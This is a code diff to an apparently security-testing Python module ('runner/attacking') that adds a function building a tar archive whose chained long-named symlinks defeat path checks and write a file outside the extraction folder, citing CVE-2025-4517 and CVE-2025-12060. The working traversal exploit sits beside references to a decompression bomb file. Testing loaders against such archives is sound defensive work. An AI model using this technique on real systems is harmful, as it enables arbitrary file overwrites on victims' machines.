@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import json
 import struct
+import tarfile
 import zipfile
 import zlib
 from collections.abc import Mapping
@@ -14,6 +15,8 @@ from caniload.runner.attacking.configs import Config
 
 WEIGHTS, ARRAYS, BOMB = "model.weights.h5", "model.weights.npz", "assets/bomb.bin"
 _PIECE = 2**26
+_STEPS, _LONG = "abcdefghijklmnop", "d" * 247
+"""So many folders of so long names are together just shorter than the longest path of Linux."""
 _EPOCH = (1980, 1, 1, 0, 0, 0)
 
 
@@ -63,6 +66,34 @@ def add_zeros(path: Path, name: str, size: int, first: bytes = b"") -> None:
         archive.NameToInfo[name] = info
         archive.start_dir = stream.tell()
         archive._didModify = True  # type: ignore[attr-defined] # noqa: SLF001 - it was by hand
+
+
+def leading_out(path: Path, name: str) -> None:
+    """Write a tar archive whose last member is put beside the folder that it is unpacked in.
+
+    A link on the way stands at the end of a path of links so long that, resolved, it is longer than
+    a path may be: who asks where it leads is told a place within (CVE-2025-4517, CVE-2025-12060).
+    """
+    content, deep, through = b"unpacked", "", []
+    with tarfile.open(path, "w") as archive:
+        for step in _STEPS:
+            archive.addfile(_entry(f"{deep}{_LONG}", tarfile.DIRTYPE))
+            archive.addfile(_entry(f"{deep}{step}", tarfile.SYMTYPE, _LONG))
+            deep += f"{_LONG}/"
+            through.append(step)
+        last = "/".join([*through, "l" * 254])
+        archive.addfile(_entry(last, tarfile.SYMTYPE, "../" * len(_STEPS)))
+        archive.addfile(_entry("beside", tarfile.SYMTYPE, f"{last}/.."))
+        info = _entry(f"beside/{name}", tarfile.REGTYPE)
+        info.size = len(content)
+        archive.addfile(info, io.BytesIO(content))
+
+
+def _entry(name: str, kind: bytes, leads_to: str = "") -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type, info.linkname = kind, leads_to
+    info.mode = 0o755
+    return info
 
 
 def arrays(members: Mapping[str, bytes]) -> bytes:
